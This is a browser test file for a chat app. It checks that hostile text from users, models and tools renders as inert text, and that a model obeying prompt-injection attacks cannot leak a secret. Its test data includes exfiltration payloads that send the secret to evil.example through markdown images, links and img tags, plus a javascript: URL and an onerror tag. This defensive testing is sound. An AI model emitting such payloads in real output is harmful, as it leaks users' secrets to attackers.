"""Text from people, models and tools stays text, wherever it is shown and however it is cut."""

import base64
import json
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, Request, Route, expect

from tests.browser.pages import ask, last_answer
from tests.browser.scripted import ScriptedChat
from tests.chat.test_obedient_model import SECRET, attacks

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
ATTACKS: list[str] = json.loads((Path(__file__).parent.parent / "attacks.json").read_text())
# Diagrams are images that we made of what a sandbox drew; KaTeX draws its roots as SVG.
FORBIDDEN = (
    "script, img:not(.diagram__picture > img), iframe, form:not(.composer), style, base, meta, object,"
    " embed, svg:not(.icon, .katex svg), [onerror], [onload], [onclick], [href^='javascript:' i],"
    " .katex a, .katex img, .katex .code__bar"
)


def expect_only_text(page: Page) -> None:
    # The page fixture also asserts: nothing ran, nobody was asked, no policy was broken.
    assert page.locator("message-list").locator(FORBIDDEN).count() == 0
    assert page.locator("chat-sidebar").locator("script, img, iframe").count() == 0


def expect_nothing_outside(page: Page) -> None:
    """Whatever a formula asks for, the page stays as large as it was, and its own parts on top."""
    assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
    hit = (
        "document.elementFromPoint({}, {}).closest('.bar, chat-sidebar, .foot, #scroller')?.tagName"
    )
    assert page.evaluate(hit.format(20, 20)) == "CHAT-SIDEBAR"
    assert page.evaluate(hit.format("innerWidth / 2", 10)) == "HEADER"


@pytest.mark.parametrize("size", [1, 7, 4000])
def test_a_hostile_answer_is_shown_as_text_however_it_arrives(
    chat: ScriptedChat, page: Page, size: int
) -> None:
    text = "\n\n".join(ATTACKS)
    ask(page, "Show me")
    for start in range(0, len(text), size):
        chat.write("r1", text[start : start + size], offset=start)
    expect(last_answer(page)).to_contain_text("clobber")
    expect_only_text(page)
    chat.finish("r1")
    expect(last_answer(page)).to_have_attribute("data-status", "complete")
    expect(last_answer(page).locator(".diagram img:visible")).to_have_count(2, timeout=30_000)
    expect(last_answer(page).locator(".diagram__problem:visible")).to_have_count(2, timeout=30_000)
    expect_only_text(page)
    expect_nothing_outside(page)


def test_a_model_that_obeys_every_attack_leaks_nothing_by_what_it_writes(
    chat: ScriptedChat, page: Page
) -> None:
    """It says each attack again, and does what they ask for: the secret in images and links. The page
    fixture asserts that nobody was asked."""
    written = [
        f"{attack}\n\n![sent](https://evil.example/{SECRET}/{n}.png)\n\n"
        f"[go on](https://evil.example/?{SECRET}) <img src='//evil.example/{SECRET}'>"
        for n, attack in enumerate(attacks())
    ]
    ask(page, "What is new in my mail?")
    offset = 0
    for text in written:
        chat.write("r1", f"{text}\n\n", offset=offset)
        offset += len(text) + 2
    chat.finish("r1")
    expect(last_answer(page)).to_have_attribute("data-status", "complete", timeout=60_000)
    held = last_answer(page).get_by_role("button", name="sent Load the image from evil.example")
    least = len(written) // 2  # some attacks begin a block of code and end none
    expect(
        held.nth(least - 1)
    ).to_be_attached()  # what draws answers may come behind the last of them
    expect_only_text(page)


def test_hostile_questions_thoughts_tools_and_errors_are_text(
    chat: ScriptedChat, page: Page
) -> None:
    text = "\n".join(ATTACKS)
    ask(page, text)
    chat.write("r1", text, part="reasoning")
    chat.event("r1", "tool_call", id="1", name="<img src=x>", arguments=json.dumps({"x": text}))
    chat.event("r1", "tool_result", id="1", content=text, is_error=True, took_ms=1.0)
    chat.event("r1", "failed", code="x", message=ATTACKS[1], retry_after_s=None)
    expect(last_answer(page)).to_have_attribute("data-status", "failed")
    for summary in page.locator("summary").all():
        summary.click()
    expect_only_text(page)


def test_hostile_titles_and_models_are_text(chat: ScriptedChat, page: Page) -> None:
    hostile = {"title": ATTACKS[1], "description": ATTACKS[2], "detail": ATTACKS[0]}
    chat.say({"type": "models.changed", "models": [{**chat.models[0], **hostile}]})
    ask(page, ATTACKS[1])
    chat.finish("r1")
    page.click("model-picker .picker")
    expect(page.locator(".model__about")).to_have_text(ATTACKS[2])
    expect(page.locator(".chat-link a[aria-current]")).to_contain_text("onerror")
    expect_only_text(page)
    assert page.locator("model-picker img, model-picker svg:not(.icon)").count() == 0


def test_hostile_text_is_text_after_a_reload_too(reader: BrowserContext, page: Page) -> None:
    """The server renders it first, then the modules; nothing of ours stands in between."""
    page.goto("/")
    text = "\n".join(ATTACKS).replace("\t", " ")
    ask(page, text)
    page.wait_for_url("**/c/*")
    page.reload()
    expect(page.locator(".message--user").first).to_contain_text("clobber")
    expect_only_text(page)


def test_links_name_their_host_and_images_wait_for_a_click(chat: ScriptedChat, page: Page) -> None:
    ask(page, "Links")
    chat.write("r1", "[your bank](https://раураl.com/a) ![a cat](https://tracker.invalid/cat.png)")
    chat.write("r1", " [https://bank.example](https://evil.example/)", offset=75)
    chat.finish("r1")
    link = last_answer(page).get_by_role("link", name="your bank")
    expect(link).to_have_attribute("data-host", "xn--l-7sba6dbr.com")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_attribute("target", "_blank")
    expect(last_answer(page)).to_contain_text("https://bank.example (evil.example)")
    held = last_answer(page).get_by_role("button", name="a cat Load the image from tracker.invalid")
    expect(held).to_be_visible()


def test_an_image_that_was_clicked_comes_alone_and_nobody_learns_the_page(
    reader: BrowserContext, base_url: str
) -> None:
    page = reader.new_page()
    chat = ScriptedChat(page)
    asked: list[Request] = []

    def serve(route: Route) -> None:
        asked.append(route.request)
        route.fulfill(content_type="image/png", body=PIXEL)

    page.route("https://images.example/**", serve)
    page.goto(f"{base_url}/")
    ask(page, "Show me")
    chat.write("r1", "![a cat](https://images.example/cat.png?x=1&y=2)")
    chat.finish("r1")
    button = page.get_by_role("button", name="a cat")
    expect(button).to_be_visible()
    assert asked == []
    button.click()
    image = page.frame_locator(".held-image__frame").locator("img")
    expect(image).to_have_js_property("naturalWidth", 1)
    assert [request.url for request in asked] == ["https://images.example/cat.png?x=1&y=2"]
    assert "referer" not in asked[0].headers
    expect(page.get_by_role("link", name="images.example")).to_be_focused()


@pytest.mark.parametrize(
    "url",
    [
        "",
        "javascript:alert(1)",
        "data:image/png,x",
        "https://",
        "https://a;script-src *",
        "//x.y",
        "https://x:y",
    ],
)
def test_the_image_page_takes_web_addresses_only(
    reader: BrowserContext, base_url: str, url: str
) -> None:
    response = reader.request.get(f"{base_url}/sandbox/image", params={"url": url})
    assert response.status == 404


def test_what_is_drawn_for_a_model_has_no_origin_and_no_network(
    reader: BrowserContext, base_url: str
) -> None:
    image = reader.request.get(f"{base_url}/sandbox/image?url=https://a.example:8443/'x\"y").headers
    policy = image["content-security-policy"]
    assert "img-src https://a.example:8443;" in policy
    assert "default-src 'none'" in policy
    assert policy.endswith("; sandbox")
    assert image["referrer-policy"] == "no-referrer"
    diagram = reader.request.get(f"{base_url}/sandbox/diagram").headers["content-security-policy"]
    assert diagram.endswith("sandbox allow-scripts")
    assert "connect-src" not in diagram
    assert "img-src" not in diagram
    top = reader.request.get(
        f"{base_url}/sandbox/image?url=https://a.example/", headers={"Sec-Fetch-Dest": "document"}
    )
    assert top.status == 404
    by_a_preview = reader.request.get(
        f"{base_url}/sandbox/image?url=https://a.example/",
        headers={"Sec-Fetch-Dest": "iframe", "Sec-Fetch-Site": "cross-site"},
    )
    assert by_a_preview.status == 404


def test_hidden_direction_marks_show_in_code(chat: ScriptedChat, page: Page) -> None:
    ask(page, "Code")
    chat.write("r1", "```js\nif (admin\u202e) {}\n```\n")
    chat.finish("r1")
    expect(page.locator("code .bidi-mark")).to_have_attribute("data-name", "U+202E")
    assert page.locator("pre code").inner_text() == "if (admin) {}\n"
